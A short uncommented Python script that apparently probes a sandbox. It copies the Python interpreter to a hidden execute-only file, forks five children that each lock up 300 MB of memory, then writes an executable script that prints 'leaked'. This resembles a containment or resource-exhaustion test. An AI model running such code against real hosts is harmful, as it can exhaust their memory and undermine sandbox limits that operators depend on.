import mmap
import os
import shutil
import sys
import time

PROGRAM = b"#!/usr/bin/python3 -I\nprint('leaked')\n"
shutil.copy(os.path.realpath(sys.executable), "hidden")
os.chmod("hidden", 0o111)
TAKE = """
import mmap, time
block = mmap.mmap(-1, 300_000_000)
for at in range(0, 300_000_000, 4096): block[at] = 1
print('x', flush=True)
time.sleep(1000)
"""
for _ in range(5):
    reading, writing = os.pipe()
    if os.fork() == 0:
        os.dup2(writing, 1)
        os.execv("./hidden", ["python3", "-I", "-S", "-c", TAKE])
    os.close(writing)
    if not os.read(reading, 1):
        sys.exit(1)
time.sleep(0.2)
mmap.mmap(-1, 4096).close()
program = os.open("program", os.O_CREAT | os.O_WRONLY, 0o777)
os.write(program, PROGRAM)
